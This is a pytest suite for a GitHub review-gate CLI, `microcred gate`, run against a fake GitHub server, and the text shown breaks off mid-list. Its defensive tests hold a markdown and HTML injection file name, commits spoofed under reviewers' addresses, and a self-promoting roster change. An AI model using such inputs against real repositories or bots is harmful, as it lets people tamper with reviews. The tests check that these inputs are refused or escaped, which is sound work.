"""`microcred gate` end to end: the CLI, real PyGithub over HTTP to a fake GitHub, a real catalog; and the workflows."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from fakegithub import BOT, REPOSITORY, TOKEN, FakeGitHub, serve
from microcred.review.gate import SLUG
from microcred.review.summary import escape
from support import FIXTURES, ROOT, Run, golden

A, B, C = "a" * 40, "b" * 40, "c" * 40
SUBMISSION = "submissions/alpha/dee-alpha-1.yml"
ALL_MET = "- context: met\n- plan: met\n- impact: met\n"
GOLDEN = FIXTURES / "golden" / "gate"
WORKFLOWS = ROOT / ".github" / "workflows"
DAN = "  - login: dan\n    name: Dan D\n    roles: [assessor]\n    district: south\n    stacks: [basics]\n"
CORA = "  - login: cora\n    name: Cora C\n    roles: [curator]\n    district: south\n"
PENDING = ("aaaaaaa", "pending", "counting the qualified reviews on aaaaaaa")
FOOTER = (
    "<sub>Counted by `microcred gate`: the latest approval or request for changes of each qualified reviewer on the head commit counts; "
    "the roster comes from the default branch.</sub>"
)

Gate = Callable[..., Run]


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGitHub]:
    with serve() as fake:
        monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
        monkeypatch.setenv("GITHUB_REPOSITORY", REPOSITORY)
        monkeypatch.setenv("GITHUB_API_URL", fake.url)
        yield fake


@pytest.fixture
def gate(cli: Callable[..., Run], repo: Path) -> Gate:
    """Run `microcred gate --pr N --root <a copy of the base catalog>`."""
    return lambda number=5: cli("gate", "--pr", str(number), "--root", str(repo), cwd=repo)


def submission(fake: FakeGitHub, text: str | None = None, number: int = 5) -> None:
    fake.pull(number, "dee", [A], {SUBMISSION: "added"})
    fake.file(A, SUBMISSION, text if text is not None else (FIXTURES / "base" / SUBMISSION).read_text(encoding="utf-8"))


def statuses(fake: FakeGitHub) -> list[tuple[str, str, str]]:
    return [(s["sha"][:7], s["state"], s["description"]) for s in fake.statuses if s["context"] == "microcred/review-gate"]


def writes(fake: FakeGitHub) -> list[str]:
    return [f"{r.method} {r.path.removeprefix(f'/repos/{REPOSITORY}')}" for r in fake.writes]


def ours(fake: FakeGitHub) -> list[str]:
    return [c["body"] for c in fake.comments if c["login"] == BOT]


def test_two_qualified_approvals_pass_with_the_rubric_results(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=f"Clear evidence.\n\n{ALL_MET}")
    fake.review(5, "bob", "APPROVED", body="* **Context**: Demonstrated\n* Plan is sound: met\n* impact = Demonstrated")
    run = gate()
    assert (run.code, run.out, run.err) == (0, "pull request #5: success: 2/2 qualified approvals on aaaaaaa\n", "")
    assert statuses(fake) == [PENDING, ("aaaaaaa", "success", "2/2 qualified approvals on aaaaaaa")]
    assert writes(fake) == [
        f"POST /statuses/{A}",  # pending before any other write
        "POST /labels",
        "POST /issues/5/labels",
        "POST /issues/5/comments",
        "POST /issues/5/comments",
        f"POST /statuses/{A}",  # the decision last
    ]
    assert fake.pulls[5].labels == ["approved"]
    assert fake.labels["approved"] == {"color": "0e8a16", "description": "Two qualified reviewers approved: ready to merge"}
    template, summary = ours(fake)
    golden(GOLDEN / "template.md", template)
    golden(GOLDEN / "approved.md", summary)


def test_approvals_whose_scores_do_not_earn_it_do_not_pass(fake: FakeGitHub, gate: Gate) -> None:
    """An approval claims the rubric is met: with a criterion not met, or left unscored, the gate waits for the scores."""
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    fake.review(5, "bob", "APPROVED", body="- context: met\n- plan: met\n- impact: not yet")
    fake.review(5, "cy", "APPROVED", body="Looks good to me.")
    run = gate()
    described = "3 approvals on aaaaaaa, but the scores of bob, cy do not meet the earning rule: fix the scores"
    assert (run.code, run.out) == (0, f"pull request #5: pending: {described}\n")
    assert statuses(fake)[-1] == ("aaaaaaa", "pending", described)
    assert fake.pulls[5].labels == []
    fake.review(5, "bob", "APPROVED", body=ALL_MET)
    fake.review(5, "cy", "APPROVED", body=ALL_MET)
    assert gate().out == "pull request #5: success: 3 qualified approvals on aaaaaaa\n"


def test_running_again_writes_nothing(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    fake.review(5, "bob", "APPROVED", body=ALL_MET)
    assert gate().code == 0
    first = len(fake.writes)
    run = gate()
    assert (run.code, run.out) == (0, "pull request #5: success: 2/2 qualified approvals on aaaaaaa (unchanged)\n")
    assert writes(fake)[first:] == []
    assert len(ours(fake)) == 2 and fake.pulls[5].labels == ["approved"]


def test_a_status_set_by_hand_is_set_again_by_the_workflow(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    fake.review(5, "bob", "APPROVED", body=ALL_MET)
    assert gate().code == 0
    fake.status(A, "success", "2/2 qualified approvals on aaaaaaa", creator="maintainer")  # `microcred gate` run with a personal token
    first = len(fake.writes)
    assert gate().out == "pull request #5: success: 2/2 qualified approvals on aaaaaaa\n"
    assert writes(fake)[first:] == [f"POST /statuses/{A}", f"POST /statuses/{A}"]  # a ruleset may require the status from Actions


def test_a_stale_status_of_the_same_outcome_is_replaced(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    fake.review(5, "bob", "APPROVED", body=ALL_MET)
    assert gate().code == 0
    fake.status(A, "pending", "counting the qualified reviews on aaaaaaa")  # a run that stopped half-way
    first = len(fake.writes)
    assert gate().code == 0
    assert writes(fake)[first:] == [f"POST /statuses/{A}", f"POST /statuses/{A}"]
    assert statuses(fake)[-1] == ("aaaaaaa", "success", "2/2 qualified approvals on aaaaaaa")


def test_every_list_is_read_across_pages(fake: FakeGitHub, gate: Gate) -> None:
    """With two items per page, the gate still sees every review, dismissal, label, comment, status and request."""
    fake.max_per_page = 2
    submission(fake)
    fake.pulls[5].labels = ["evidence", "grade-7", "north", "round-2", "needs-tiebreak"]  # the stale label on page 3
    for login in ("eve", "fay", "gus"):  # others' comments first: the gate's summary and template are on pages 2 and 3
        fake.comments.append({"id": len(fake.comments) + 1, "number": 5, "login": login, "body": "+1", "created_at": "", "updated_at": ""})
    fake.comments.append({"id": 99, "number": 5, "login": BOT, "body": "<!-- microcred:gate -->\nold", "created_at": "", "updated_at": ""})
    fake.comments.append(
        {"id": 98, "number": 5, "login": BOT, "body": "<!-- microcred:scores -->\nold", "created_at": "", "updated_at": ""}
    )
    fake.status(A, "failure", "the gate could not finish: GET /repos/consortium/catalog/pulls/5/reviews")
    for context in ("ci/a", "ci/b", "ci/c"):  # newer statuses of other checks: the gate's own is on page 2
        fake.status(A, "success", "fine", context=context)
    for n in range(6):
        fake.review(5, "ann", "COMMENTED", body=f"note {n}")
    fake.review(5, "ann", "APPROVED", body=ALL_MET)  # review 7 of 9: page 4
    bob = fake.review(5, "bob", "CHANGES_REQUESTED", body="- plan: not yet")
    fake.review(5, "cy", "APPROVED", body=ALL_MET)
    for n, event in enumerate(("labeled", "review_requested", "labeled")):  # other events before the dismissal
        fake.events.setdefault(5, []).append({"id": n + 1, "event": event, "actor": None, "created_at": "2026-10-19T12:00:00Z"})
    fake.reviews[5][7]["state"] = "DISMISSED"  # dismissed earlier with the gate's message
    fake.events[5].append(
        {
            "id": 4,
            "event": "review_dismissed",
            "actor": None,
            "created_at": "2026-10-20T12:00:00Z",
            "dismissed_review": {
                "state": "changes_requested",
                "review_id": bob,
                "dismissal_message": "microcred-gate: outvoted 2:1 after a tie-break; this review by @bob requested changes on aaaaaaa.",
            },
        }
    )
    run = gate()
    assert run.out == "pull request #5: success: 2 qualified approvals to 1 request for changes on aaaaaaa\n"
    assert writes(fake) == [
        f"POST /statuses/{A}",
        "POST /labels",
        "POST /issues/5/labels",
        "DELETE /issues/5/labels/needs-tiebreak",
        "PATCH /issues/comments/99",
        f"POST /statuses/{A}",
    ]
    assert fake.pulls[5].labels == ["evidence", "grade-7", "north", "round-2", "approved"]
    pages = [(r.path.removeprefix(f"/repos/{REPOSITORY}"), r.query.get("page", "1")) for r in fake.requests if r.method == "GET"]
    for path, last in [
        (f"/statuses/{A}", "2"),  # stops at the gate's own, the newest of its context
        ("/pulls/5/reviews", "5"),
        ("/issues/5/events", "2"),
        ("/issues/5/labels", "3"),
        ("/issues/5/comments", "3"),
    ]:
        assert [page for p, page in pages if p == path] == [str(n) for n in range(1, int(last) + 1)], path
    first = len(fake.writes)
    assert gate().out.endswith(" (unchanged)\n")
    assert writes(fake)[first:] == []


def test_the_summary_is_edited_in_place_as_reviews_arrive(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    assert gate().out == "pull request #5: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
    assert fake.pulls[5].labels == []
    fake.review(5, "bob", "CHANGES_REQUESTED", body=ALL_MET)
    fake.review(5, "cy", "CHANGES_REQUESTED", body="- context: not yet\n- plan: not yet\n- impact: not yet")
    assert gate().out == "pull request #5: failure: not yet: 2 qualified reviewers requested changes, 1 approved on aaaaaaa\n"
    [_, summary_id] = [c["id"] for c in fake.comments]
    assert writes(fake)[-5:] == [
        f"POST /statuses/{A}",
        "POST /labels",
        "POST /issues/5/labels",
        f"PATCH /issues/comments/{summary_id}",
        f"POST /statuses/{A}",
    ]
    assert fake.pulls[5].labels == ["not-yet"]
    golden(GOLDEN / "not-yet.md", ours(fake)[1])


def test_an_approval_before_a_push_is_stale(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.pulls[5].labels = ["approved"]
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    fake.review(5, "bob", "APPROVED", body=ALL_MET)
    fake.push(5, B, date="2026-10-15T10:00:00Z")
    fake.file(B, SUBMISSION, (FIXTURES / "base" / SUBMISSION).read_text(encoding="utf-8"))
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    run = gate()
    assert run.out == "pull request #5: pending: 1/2 qualified approvals, waiting for a second reviewer on bbbbbbb\n"
    assert statuses(fake)[-1] == ("bbbbbbb", "pending", "1/2 qualified approvals, waiting for a second reviewer on bbbbbbb")
    assert fake.pulls[5].labels == []  # the approval of the older commit no longer stands
    assert "\n\nNot counted:\n- `bob`: review on an older commit aaaaaaa\n\nRubric results:\n" in ours(fake)[1]


def test_who_is_not_counted_and_why(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.users["helper[bot]"] = "Bot"
    fake.review(5, "dee", "APPROVED")
    fake.review(5, "helper[bot]", "APPROVED")
    fake.review(5, "stranger", "APPROVED")
    fake.review(5, "ann", "APPROVED", body="context: met")
    fake.review(5, "ann", "COMMENTED", body="One more thought.")
    assert gate().out == "pull request #5: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
    golden(GOLDEN / "not-counted.md", ours(fake)[1])


def test_a_proposal_is_reviewed_by_curators_without_a_scoring_template(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
    with (repo / "catalog/reviewers.yml").open("a", encoding="utf-8") as roster:
        roster.write(CORA)
    fake.pull(9, "eve", [A], {"catalog/credentials/delta.yml": "added", "rubrics/delta.yml": "added"})
    fake.review(9, "ann", "APPROVED")
    fake.review(9, "bob", "APPROVED")  # an assessor, not a curator
    assert gate(9).out == "pull request #9: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
    fake.review(9, "cora", "APPROVED")
    assert gate(9).out == "pull request #9: success: 2/2 qualified approvals on aaaaaaa\n"
    assert fake.pulls[9].labels == ["approved"]
    [summary] = ours(fake)  # no scoring template: a proposal has no rubric to score
    golden(GOLDEN / "proposal.md", summary)
    assert not [r for r in fake.requests if "/contents/" in r.path]


def test_the_roster_comes_from_the_default_branch_never_the_pull_request(fake: FakeGitHub, gate: Gate) -> None:
    # mal opens a proposal that makes mal and pal curators, and assessors of alpha; the pull request's copy is never read.
    roster = (FIXTURES / "base/catalog/reviewers.yml").read_text(encoding="utf-8")
    for login in ("mal", "pal"):
        roster += f"  - login: {login}\n    name: {login}\n    roles: [assessor, curator]\n    district: south\n    credentials: [alpha]\n"
    fake.pull(9, "mal", [C], {"catalog/reviewers.yml": "modified"})
    fake.file(C, "catalog/reviewers.yml", roster)
    fake.review(9, "mal", "APPROVED")
    fake.review(9, "pal", "APPROVED")
    fake.review(9, "ann", "APPROVED")
    assert gate(9).out == "pull request #9: pending: 1/2 qualified approvals, waiting for a second reviewer on ccccccc\n"
    assert "Not counted:\n- `mal`: the author of the pull request\n- `pal`: not a curator\n" in ours(fake)[0]
    # While the change is not merged, pal is no assessor of alpha either.
    submission(fake)
    fake.review(5, "pal", "APPROVED", body=ALL_MET)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    assert gate(5).out == "pull request #5: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
    assert "Not counted:\n- `pal`: not on the roster for this credential\n" in ours(fake)[-1]
    assert [r.path for r in fake.requests if "/contents/" in r.path] == [f"/repos/{REPOSITORY}/contents/{SUBMISSION}"]


def test_a_tie_asks_the_eligible_reviewer_with_the_fewest_open_requests(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
    with (repo / "catalog/reviewers.yml").open("a", encoding="utf-8") as roster:
        roster.write(DAN)
    submission(fake)
    fake.pull(7, "eve", ["c" * 40], {}, requested=["cy"])
    fake.pull(8, "fay", ["d" * 40], {}, requested=["cy", "ann"])
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    fake.review(5, "bob", "CHANGES_REQUESTED", body="- plan: not yet")
    assert gate().out == "pull request #5: pending: tie 1:1 on aaaaaaa: dan is asked to decide\n"  # cy is busier
    assert fake.pulls[5].requested == ["dan"]
    assert fake.pulls[5].labels == ["needs-tiebreak"]
    golden(GOLDEN / "tie.md", ours(fake)[1])
    fake.pulls[7].requested = fake.pulls[8].requested = ["dan"]  # now dan is busier, but already asked here: nobody else is
    first = len(fake.writes)
    assert gate().out == "pull request #5: pending: tie 1:1 on aaaaaaa: dan is asked to decide (unchanged)\n"
    assert writes(fake)[first:] == []
    assert fake.pulls[5].requested == ["dan"]


def test_at_two_to_one_the_outvoted_review_is_dismissed_with_the_vote(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    bob = fake.review(5, "bob", "CHANGES_REQUESTED", body="- plan: not yet")
    assert gate().code == 0
    fake.review(5, "cy", "APPROVED", body=ALL_MET)
    run = gate()
    assert run.out == "pull request #5: success: 2 qualified approvals to 1 request for changes on aaaaaaa\n"
    [dismissal] = [r for r in fake.requests if r.method == "PUT"]
    assert dismissal.path == f"/repos/{REPOSITORY}/pulls/5/reviews/{bob}/dismissals"
    assert dismissal.body == {
        "message": "microcred-gate: outvoted 2:1 after a tie-break; this review by @bob requested changes on aaaaaaa."
    }
    assert fake.pulls[5].labels == ["approved"]
    golden(GOLDEN / "outvoted.md", ours(fake)[1])
    first = len(fake.writes)
    # The dismissed review still counts as outvoted, and is not dismissed again.
    assert gate().out == "pull request #5: success: 2 qualified approvals to 1 request for changes on aaaaaaa (unchanged)\n"
    assert writes(fake)[first:] == []


def test_a_refused_dismissal_fails_the_gate_after_the_summary_shows_the_message(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    bob = fake.review(5, "bob", "CHANGES_REQUESTED")
    fake.review(5, "cy", "APPROVED", body=ALL_MET)
    fake.fail = ("PUT", r"/dismissals$", 403)  # dismissals restricted to maintainers
    run = gate()
    call = f"PUT /repos/consortium/catalog/pulls/5/reviews/{bob}/dismissals"
    assert (run.code, run.out) == (1, "")
    assert run.err == (
        f"microcred: gate: {call} answered HTTP 403: Forbidden; "
        "GitHub refused the write (a rule of the repository may reserve it, e.g. who may dismiss reviews)\n"
    )
    assert statuses(fake)[-1] == ("aaaaaaa", "failure", f"the gate could not finish: {call}")
    assert fake.reviews[5][1]["state"] == "CHANGES_REQUESTED"
    assert "`microcred-gate: outvoted 2:1 after a tie-break; this review by @bob requested changes on aaaaaaa.`" in ours(fake)[1]


def test_nobody_left_to_break_a_tie_asks_the_admin(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
    consortium = repo / "catalog/consortium.yml"
    consortium.write_text(consortium.read_text(encoding="utf-8") + "review:\n  exclude_earner_district: true\n", encoding="utf-8")
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)  # north, like the earner
    fake.review(5, "bob", "APPROVED", body=ALL_MET)
    fake.review(5, "cy", "CHANGES_REQUESTED", body="- plan: not yet")
    assert gate().out == "pull request #5: pending: tie 1:1 on aaaaaaa: nobody qualifies to break it; an admin decides\n"
    assert fake.pulls[5].requested == []
    assert fake.pulls[5].labels == ["needs-admin"]
    assert fake.labels["needs-admin"] == {
        "color": "b60205",
        "description": "Nobody qualifies to break the tie: an admin must find a reviewer",
    }
    golden(GOLDEN / "needs-admin.md", ours(fake)[1])


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("id: x\nid: y\n", "submissions/alpha/dee-alpha-1.yml at aaaaaaa line 2: MC005 duplicate key 'id'"),
        (
            "credential: beta\nearner: {login: dee, district: north}\n",
            "submissions/alpha/dee-alpha-1.yml at aaaaaaa: credential is 'beta', but the file is in submissions/alpha/",
        ),
        (
            "credential: alpha\nearner: {login: dee, district: west}\n",
            "submissions/alpha/dee-alpha-1.yml at aaaaaaa: earner.district 'west' is not a member district",
        ),
        (
            "credential: alpha\nearner: {login: dee, district: south}\n",  # declared elsewhere, so south's reviewers would count
            "submissions/alpha/dee-alpha-1.yml at aaaaaaa: catalog/earners.yml lists dee under north, not south",
        ),
        ("- a list\n", "submissions/alpha/dee-alpha-1.yml at aaaaaaa holds no mapping of fields"),
        (
            "credential: alpha\nearner: {login: eve, district: north}\n",
            "submissions/alpha/dee-alpha-1.yml at aaaaaaa: the earner is 'eve', but dee opened the pull request; earners submit their own evidence",
        ),
        (
            "credential: alpha\nearner: north\n",
            "submissions/alpha/dee-alpha-1.yml at aaaaaaa: the earner is None, but dee opened the pull request; earners submit their own evidence",
        ),
    ],
)
def test_a_malformed_submission_fails_with_the_reason(fake: FakeGitHub, gate: Gate, text: str, problem: str) -> None:
    submission(fake, text)
    fake.pulls[5].labels = ["approved"]
    run = gate()
    assert (run.code, run.err) == (1, f"microcred: gate: #5: {problem}\n")
    assert statuses(fake) == [PENDING, ("aaaaaaa", "failure", problem)]
    assert fake.pulls[5].labels == []
    assert ours(fake) == [f"<!-- microcred:gate -->\n### Review gate: cannot judge this pull request\n\n{problem}.\n\n{FOOTER}\n"]


@pytest.mark.parametrize(
    ("files", "problem"),
    [
        (
            {SUBMISSION: "added", "submissions/alpha/dee-alpha-2.yml": "added"},
            "the pull request changes 2 submission files; a submission comes alone in its pull request",
        ),
        (
            {"submissions/alpha/notes.txt": "added"},
            "'submissions/alpha/notes.txt' is not a submission file (submissions/<credential>/<id>.yml, ids in lower-case words joined by hyphens)",
        ),
        (
            {"submissions/alpha/dee-alpha-1.yaml": "added"},
            "'submissions/alpha/dee-alpha-1.yaml' is not a submission file (submissions/<credential>/<id>.yml, ids in lower-case words joined by hyphens)",
        ),
        (
            {"submissions/alpha/Dee_Alpha.yml": "added"},
            "'submissions/alpha/Dee_Alpha.yml' is not a submission file (submissions/<credential>/<id>.yml, ids in lower-case words joined by hyphens)",
        ),
        (
            {SUBMISSION: "added", "catalog/reviewers.yml": "modified"},
            "the pull request changes 1 file besides its submission ('catalog/reviewers.yml'); a submission comes alone in its pull request",
        ),
        (
            {
                "docs/x.md": "added",
                SUBMISSION: "modified",
                "README.md": "removed",
                "submissions/beta/eve-beta-1.yml": "removed",
                "a.txt": "added",
            },
            "the pull request changes 4 files besides its submission ('README.md', 'a.txt', 'docs/x.md', …); a submission comes alone in its pull request",
        ),
        (
            {"submissions/delta/dee-delta-1.yml": "added"},
            "submissions/delta/dee-delta-1.yml at aaaaaaa: no credential 'delta' in the catalog on the default branch",
        ),
    ],
)
def test_a_pull_request_that_is_no_single_submission_of_a_known_credential_fails(
    fake: FakeGitHub, gate: Gate, files: dict[str, str], problem: str
) -> None:
    fake.pull(5, "dee", [A], files)
    fake.file(A, "submissions/delta/dee-delta-1.yml", "credential: delta\nearner: {login: dee, district: north}\n")
    fake.review(5, "ann", "APPROVED")
    fake.review(5, "bob", "APPROVED")
    run = gate()
    assert (run.code, run.out, run.err) == (1, f"pull request #5: failure: {problem}\n", f"microcred: gate: #5: {problem}\n")
    assert statuses(fake)[-1] == ("aaaaaaa", "failure", problem)


def test_pull_requests_sharing_a_head_are_each_refused(fake: FakeGitHub, gate: Gate) -> None:
    """eve opens #6 from dee's approved head: a commit's status shows on both, so neither may pass on it."""
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    fake.review(5, "bob", "APPROVED", body=ALL_MET)
    assert gate().code == 0
    fake.pull(6, "eve", [A], {SUBMISSION: "added"})
    problem = "its head aaaaaaa is also the head of #5; close all but one of these pull requests"
    run = gate(6)
    assert (run.code, run.out, run.err) == (1, f"pull request #6: failure: {problem}\n", f"microcred: gate: #6: {problem}\n")
    assert statuses(fake)[-1] == ("aaaaaaa", "failure", problem)
    again = gate()  # #5 no longer passes on the shared commit either
    assert again.out == "pull request #5: failure: its head aaaaaaa is also the head of #6; close all but one of these pull requests\n"
    fake.pulls[6].state = "closed"
    assert gate().out == "pull request #5: success: 2/2 qualified approvals on aaaaaaa\n"


def test_a_submission_with_commits_attributed_to_others_is_not_judged(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
    """dee commits under ann's and bob's addresses, so GitHub attributes the commits to them and would not count their objections."""
    with (repo / "catalog/reviewers.yml").open("a", encoding="utf-8") as roster:
        roster.write(DAN)
    submission(fake)
    spoofed, other, web, unlinked = "1a2b3c4" + "0" * 33, "5d6e7f8" + "0" * 33, "f" * 40, "9" * 40
    fake.commit(spoofed, "ann", "dee")  # authored with ann's address
    fake.commit(other, "dee", "bob")  # committed with bob's
    fake.commit(web, "dee", "web-flow")  # "update branch" on GitHub
    fake.commit(unlinked, None)  # addresses linked to no account
    fake.pulls[5].commits[:0] = [spoofed, other, web, unlinked]
    fake.review(5, "ann", "CHANGES_REQUESTED", body="- plan: not yet")
    fake.review(5, "bob", "CHANGES_REQUESTED", body="- plan: not yet")
    fake.review(5, "cy", "APPROVED", body=ALL_MET)
    fake.review(5, "dan", "APPROVED", body=ALL_MET)
    run = gate()
    problem = (
        "commits 1a2b3c4, 5d6e7f8 are attributed to other accounts than the earner (dee); "
        "a submission's commits are the earner's own: rewrite them under your account"
    )
    assert (run.code, run.out, run.err) == (1, f"pull request #5: failure: {problem[:139]}…\n", f"microcred: gate: #5: {problem}\n")
    assert statuses(fake) == [PENDING, ("aaaaaaa", "failure", problem[:139] + "…")]
    assert ours(fake) == [f"<!-- microcred:gate -->\n### Review gate: cannot judge this pull request\n\n{problem}.\n\n{FOOTER}\n"]
    assert fake.pulls[5].labels == []
    # Rewritten under dee's own account (the file naming the earner in capitals), the objections count again.
    fake.pulls[5].commits = [web, unlinked, A]
    fake.file(A, SUBMISSION, (FIXTURES / "base" / SUBMISSION).read_text(encoding="utf-8").replace("login: dee", "login: DEE"))
    assert gate().out == "pull request #5: pending: tie 2:2 on aaaaaaa: nobody qualifies to break it; an admin decides\n"


def test_a_proposals_contributors_are_not_counted(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
    with (repo / "catalog/reviewers.yml").open("a", encoding="utf-8") as roster:
        roster.write(CORA)
    fake.commit(B, "eve", "cora")  # cora committed to eve's proposal: she reviews her own change
    fake.pull(9, "eve", [B, A], {"catalog/credentials/delta.yml": "added"})
    fake.review(9, "ann", "APPROVED")
    fake.review(9, "cora", "APPROVED")
    assert gate(9).out == "pull request #9: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
    assert "\n\nNot counted:\n- `cora`: committed to the pull request\n\n" in ours(fake)[0]


def test_a_renamed_file_counts_its_former_path_as_changed(fake: FakeGitHub, gate: Gate) -> None:
    fake.pull(5, "dee", [A], {SUBMISSION: "renamed"}, previous={SUBMISSION: "submissions/beta/eve-beta-1.yml"})  # eve's, taken over
    run = gate()
    problem = "the pull request changes 1 file besides its submission ('submissions/beta/eve-beta-1.yml'); a submission comes alone in its pull request"
    assert (run.code, run.err) == (1, f"microcred: gate: #5: {problem}\n")


def test_a_file_name_cannot_write_markdown_or_mention_anyone_in_the_comment(fake: FakeGitHub, gate: Gate) -> None:
    path = "submissions/alpha/x`@ann [y](https://e.example) *b* <img src=x>\n# _h_ | ~s~ &#64;cy.yml"
    fake.pull(5, "dee", [A], {path: "added"})
    run = gate()
    problem = (
        r"'submissions/alpha/x`@ann [y](https://e.example) *b* <img src=x>\n# _h_ | ~s~ &#64;cy.yml' is not a submission file "
        "(submissions/<credential>/<id>.yml, ids in lower-case words joined by hyphens)"
    )
    assert (run.code, run.err) == (1, f"microcred: gate: #5: {problem}\n")  # one line: repr() quotes the name
    assert statuses(fake)[-1] == ("aaaaaaa", "failure", problem[:139] + "…")
    shown = (
        "'submissions/alpha/x&#96;&#64;&#8203;ann &#91;y&#93;(https://e.example) &#42;b&#42; &#60;img src=x&#62;&#92;n# &#95;h&#95; "
        "&#124; &#126;s&#126; &amp;#64;cy.yml' is not a submission file "
        "(submissions/&#60;credential&#62;/&#60;id&#62;.yml, ids in lower-case words joined by hyphens)"
    )
    assert ours(fake) == [f"<!-- microcred:gate -->\n### Review gate: cannot judge this pull request\n\n{shown}.\n\n{FOOTER}\n"]
    assert not [r for r in fake.requests if "/contents/" in r.path]  # never read


def test_a_review_line_quoted_in_the_score_problems_is_escaped(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.review(5, "ann", "APPROVED", body=f"{ALL_MET}- context: see [this](https://e.example) @bob `x` <b>y</b> *z*")
    fake.review(5, "bob", "APPROVED", body=ALL_MET)
    assert gate().code == 0
    assert (
        "\n\nScore problems:\n- `ann`: could not read '- context: see &#91;this&#93;(https://e.example) &#64;&#8203;bob &#96;x&#96; "
        in ours(fake)[1]
    )
    assert ours(fake)[1].count("\n- `ann`: could not read '") == 1
    assert "&#60;b&#62;y&#60;/b&#62; &#42;z&#42;'\n" in ours(fake)[1]


def test_escape_leaves_no_markdown_mention_or_line_break() -> None:
    assert escape("a`b*c_d[e]f<g>h@i&j|k\\l~m\nn\r\to") == (
        "a&#96;b&#42;c&#95;d&#91;e&#93;f&#60;g&#62;h&#64;&#8203;i&amp;j&#124;k&#92;l&#126;m n o"
    )
    assert escape("plain words, 'quoted' (kept) - as is.") == "plain words, 'quoted' (kept) - as is."


def test_submission_paths_are_named_by_the_schemas_slug() -> None:
    common = json.loads((ROOT / "schemas/common.schema.json").read_text(encoding="utf-8"))
    assert common["$defs"]["slug"]["pattern"] == f"^{SLUG}$"


def test_an_invalid_catalog_on_the_default_branch_fails_closed(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
    (repo / "catalog/reviewers.yml").write_text("reviewers: 3\n", encoding="utf-8")
    submission(fake)
    fake.review(5, "ann", "APPROVED")
    fake.review(5, "bob", "APPROVED")
    run = gate()
    problem = "the catalog on the default branch is invalid, so the roster cannot be read; fix the default branch"
    assert (run.code, run.out) == (1, f"pull request #5: failure: {problem}\n")
    summary, refusal = run.err.splitlines()
    assert summary.startswith(f"microcred: gate: {repo}: ") and summary.endswith(" checked: invalid, 1 error(s), 3 warning(s)")
    assert refusal == f"microcred: gate: #5: {problem}"
    assert statuses(fake) == [PENDING, ("aaaaaaa", "failure", problem)]
    assert [r.path for r in fake.requests if "/contents/" in r.path or "/reviews" in r.path] == []  # nothing judged


def test_a_read_only_token_fails_closed_before_anything_is_written(fake: FakeGitHub, gate: Gate) -> None:
    fake.read_only = True
    submission(fake)
    fake.status(A, "success", "2/2 qualified approvals on aaaaaaa")  # from an earlier run
    fake.review(5, "ann", "APPROVED")
    fake.review(5, "bob", "CHANGES_REQUESTED")
    run = gate()
    assert (run.code, run.out) == (1, "")
    assert run.err == (
        f"microcred: gate: POST /repos/consortium/catalog/statuses/{A} answered HTTP 403: Resource not accessible by integration; "
        "the token is read-only here: the gate's job needs statuses: write, pull-requests: write and issues: write\n"
    )
    assert writes(fake) == [f"POST /statuses/{A}"]  # the first write is pending, and nothing follows its refusal
    assert statuses(fake) == [("aaaaaaa", "success", "2/2 qualified approvals on aaaaaaa")]


def _scenario(fake: FakeGitHub, kind: str) -> None:
    """A pull request whose run writes a lot: "approved" 2:1 (labels, both comments, a dismissal), its "rerun" over an old
    summary and label, or a "tie" (the open pull requests read, a review requested)."""
    submission(fake)
    fake.pull(7, "eve", ["c" * 40], {}, requested=["bob"])
    fake.review(5, "ann", "APPROVED", body=ALL_MET)
    fake.review(5, "bob", "CHANGES_REQUESTED", body="- plan: not yet")
    if kind == "tie":
        return
    fake.review(5, "cy", "APPROVED", body=ALL_MET)
    if kind == "rerun":
        fake.pulls[5].labels = ["needs-tiebreak"]
        fake.comments.append(
            {"id": 1, "number": 5, "login": BOT, "body": "<!-- microcred:scores -->\n", "created_at": "", "updated_at": ""}
        )
        fake.comments.append(
            {"id": 2, "number": 5, "login": BOT, "body": "<!-- microcred:gate -->\nold", "created_at": "", "updated_at": ""}
        )


REPO = f"/repos/{REPOSITORY}"
REFUSED = "; GitHub refused the write (a rule of the repository may reserve it, e.g. who may dismiss reviews)"


FAILURES = [
    # Reads, before anything is written: the status goes straight to failure.
    ("approved", "GET", r"/statuses/", 502, 0, f"GET {REPO}/statuses/{A}", "Server Error", []),
